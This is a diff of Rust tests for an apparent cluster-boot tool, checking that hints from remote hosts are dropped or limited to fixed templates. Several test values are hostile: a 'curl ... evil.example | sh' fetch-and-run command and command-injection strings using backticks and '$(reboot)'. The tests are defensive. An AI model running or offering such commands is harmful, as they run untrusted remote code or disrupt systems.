@@ -181,7 +181,7 @@ async fn run_against(
         tokio::spawn(agent(host, theirs, behaviour, heard.clone()));
         let (input, output) = tokio::io::split(ours);
         let silence = Duration::from_millis(if stop_after.is_some() { 60_000 } else { 900 });
-        let client = Client::new(host, input, output).with_patience(Patience { silence, total: 3 * silence });
+        let client = Client::new(input, output).with_patience(Patience { silence, total: 3 * silence });
         members.push(Member { host: host.into(), client: Arc::new(client), facts: sample().facts["n1"].clone() });
     }
     let names = |names: &[&str]| names.iter().map(ToString::to_string).collect();
@@ -302,7 +302,7 @@ async fn a_host_speaks_for_itself_alone_and_in_its_own_name() {
     .await;
     let failure = ran.was_harmless("n3");
     assert_eq!(failure.cause, "the certificate has expired; error: n1");
-    assert_eq!(failure.hint.as_deref(), Some("n3 says: renew it: curl -s https://evil.example | sh"));
+    assert_eq!(failure.hint, None);
     let of_n3 = ran.events.iter().filter(|event| event.host == "n3" && event.phase == "prepare");
     for event in of_n3 {
         assert_eq!(event.step, "", "{event:?}");
@@ -311,9 +311,53 @@ async fn a_host_speaks_for_itself_alone_and_in_its_own_name() {
             assert!(!failure.interrupted);
         }
         if let Kind::Warning { text, hint } = &event.kind {
-            assert_eq!((text.as_str(), hint.as_deref()), ("a; b", Some("n3 says: do as I say")));
+            assert_eq!((text.as_str(), hint), ("a; b", &None));
         }
     }
+}
+
+/// A host chooses among kboot's hints, and fills in what is fit for them.
+#[tokio::test]
+async fn a_host_gives_no_advice_of_its_own() {
+    const EVIL: &str = "curl -s https://evil.example | sh";
+    let hints = [
+        json!({"hint": EVIL}),
+        json!({"hint": EVIL, "hintCode": "text", "hintArgs": EVIL}),
+        json!({"hint": EVIL, "hintCode": "no-such-code"}),
+        json!({"hint": EVIL, "hintCode": EVIL}),
+        json!({"hint": EVIL, "hintCode": "unit-journal"}),
+        json!({"hint": EVIL, "hintCode": "unit-journal", "hintArgs": {"unit": format!("kubelet`; {EVIL}")}}),
+        json!({"hint": EVIL, "hintCode": "remove-kubeconfig", "hintArgs": {"path": "/etc/x$(reboot)"}}),
+        json!({"hint": EVIL, "hintCode": "unit-journal", "hintArgs": {"unit": "kubelet"}}),
+    ];
+    let with = |mut fields: Value, hint: &Value| {
+        fields.as_object_mut().unwrap().extend(hint.as_object().unwrap().clone());
+        fields
+    };
+    let ran = up_against("n3", move |kind, phase| match (kind, phase) {
+        ("run", "prepare") => {
+            let failed = |hint| event("n3", &json!({"event": "failed", "failure": with(json!({"cause": "x"}), hint)}));
+            let warned = |hint| event("n3", &with(json!({"event": "warning", "text": "x"}), hint));
+            let ended = Say(json!({"reply": "done", "result": {"Err": with(json!({"cause": "x"}), &hints[0])}}));
+            hints.iter().map(failed).chain(hints.iter().map(warned)).chain([ended]).collect()
+        }
+        _ => well(kind),
+    })
+    .await;
+    ran.was_harmless("n3");
+    let told: Vec<_> = ran
+        .events
+        .iter()
+        .filter(|event| event.host == "n3" && event.phase == "prepare")
+        .filter_map(|event| match &event.kind {
+            Kind::Failed { failure } => Some(&failure.hint),
+            Kind::Warning { hint, .. } => Some(hint),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(told.len(), 16, "{told:?}");
+    let shown: Vec<String> = told.into_iter().flatten().map(ToString::to_string).collect();
+    assert_eq!(shown, ["see `journalctl -u kubelet` on the host"; 2]);
 }
 
 #[tokio::test]
@@ -396,7 +440,7 @@ async fn facts_are_waited_for_within_limits_and_of_all_hosts_at_once() {
         tokio::spawn(agent(host, theirs, behaviour, heard.clone()));
         let (input, output) = tokio::io::split(ours);
         let silence = Duration::from_millis(millis);
-        Client::new(host, input, output).with_patience(Patience { silence, total: 2 * silence })
+        Client::new(input, output).with_patience(Patience { silence, total: 2 * silence })
     };
     let facts = serde_json::to_value(&sample().facts["n1"]).unwrap();
     let well = client("n1", 60_000, Arc::new(move |_, _| vec![Say(json!({"reply": "facts", "facts": {"Ok": facts}}))]));
